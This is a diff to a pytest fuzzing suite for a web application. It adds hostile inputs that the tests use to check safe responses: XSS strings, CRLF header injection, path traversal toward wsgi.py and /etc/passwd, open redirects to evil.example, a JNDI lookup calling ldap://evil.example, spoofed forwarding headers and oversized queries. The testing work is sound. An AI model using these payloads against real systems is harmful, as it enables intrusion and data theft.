@@ -82,6 +82,22 @@ VALUES = {
     "ligature": "%EF%AC%83",
     "escape": "%1B%5B31m",
     "no character": "%EF%BF%BE",
+    "another page number": "%D9%A1",
+    "page beyond all": "1" + "0" * 30,
+    "no day": "9999-99-99",
+    "day far back": "last-99999999999d",
+    "undated beyond": "~9999-99",
+    "three bytes for a slash": "%E0%80%AF",
+    "line feed in Unicode": "%E5%98%8D%E5%98%8ASet-Cookie:1",
+    "script in wide letters": "%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
+    "script twice escaped": "%253Cscript%253Ealert(1)%253C/script%253E",
+    "end of a data block": "%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E",
+    "end of a comment": "--%3E%3C!--",
+    "line separators": "%E2%80%A8%E2%80%A9",
+    "wide letters that fold": "%EF%B7%BA" * 120,
+    "a file of the system": "file:///etc/passwd",
+    "another site": "//evil.example",
+    "lookup": "$%7Bjndi:ldap://evil.example/a%7D",
 }
 WORST = ("NUL", "invalid UTF-8", "lone surrogate", "script", "quote", "many OR", "near", "long", "number", "field")
 PARAMETERS = (
@@ -107,6 +123,9 @@ PARAMETERS = (
     "lineage",
     "lang",
     "format",
+    "copies",
+    "callback",
+    "next",
     "unknown",
 )
 PATHS = [
@@ -143,6 +162,25 @@ PATHS = [
     "/%09/evil.example",
     "/sitemap-99999999999.xml",
     "/sitemap-x.xml",
+    "/doc//evil.example",
+    "/doc/%5C%5Cevil.example/",
+    "/doc/http://evil.example",
+    "/%2f%2fevil.example",
+    "/%5cevil.example",
+    "/.//evil.example",
+    "/@evil.example/%2f..",
+    "/article/%2e%2e%2f%2e%2e%2fwsgi.py",
+    "/article/%C0%AE%C0%AE",
+    "/article/%3Cscript%3Ealert(1)%3C/script%3E",
+    "/person/__proto__",
+    "/static/..%2f..%2fwsgi.py",
+    "/static/..%5c..%5cwsgi.py",
+    "/static/style.css%00.js",
+    "/static/fonts/",
+    "/search/../article/a01",
+    "/search%3fq=a",
+    "/?__debugger__=yes&cmd=resource&f=style.css",
+    "/" + "%00" * 100,
 ]
 HEADERS = {
     "accept nothing known": {"Accept": "image/x-nothing;q=broken,,,;"},
@@ -160,6 +198,18 @@ HEADERS = {
     },
     "rewrite": {"X-Original-URL": "/admin", "X-Rewrite-URL": "/admin", "X-HTTP-Method-Override": "DELETE"},
     "origin": {"Origin": "null", "Referer": "javascript:alert(1)"},
+    "forwarded by all names": {
+        "Forwarded": 'host=evil.example;proto=javascript;for="<script>"',
+        "X-Host": "evil.example",
+        "X-Forwarded-Server": "evil.example",
+        "X-Forwarded-Scheme": "javascript",
+        "X-Script-Name": "//evil.example",
+        "X-Forwarded-Port": "evil",
+    },
+    "conditions of a change": {"If-Match": '"x"', "If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT"},
+    "a change of protocol": {"Upgrade": "h2c", "HTTP2-Settings": "AAA", "Connection": "Upgrade, HTTP2-Settings"},
+    "a name of its own": {"X-Request-Id": "<script>alert(1)</script>", "traceparent": "x"},
+    "no encoding at all": {"Accept-Encoding": "identity;q=0, *;q=0"},
     "agent": {"User-Agent": "\u00ff${jndi:ldap://evil.example}"},
 }
 
@@ -271,3 +321,22 @@ def test_reading_methods_without_a_body_are_safe_too(route: str, method: str):
     answer = ask(route, method=method)
     assert_is_safe(answer)
     assert answer.data == b"" or (method == "OPTIONS" and answer.status_code == 404)
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "&".join(f"person=a{number}" for number in range(60)),
+        "person_op=all&" + "&".join(f"person=a{number}" for number in range(59)),
+        "&".join(f"x_ministry=a{number}" for number in range(60)),
+        "&".join(f"date={year}" for year in range(1960, 2020)),
+        "find_person=" + "a" * 8_000,
+        "more=person&more=ministry&az=person&az=ministry&copies=" + "a" * 8_000,
+    ],
+    ids=lambda query: query[:24],
+)
+def test_a_page_of_as_many_filters_as_are_read_is_of_bounded_size(query: str):
+    answer = ask("/search", query)
+    assert_is_safe(answer)
+    assert answer.status_code == 200
+    assert len(answer.data) < 1_000_000
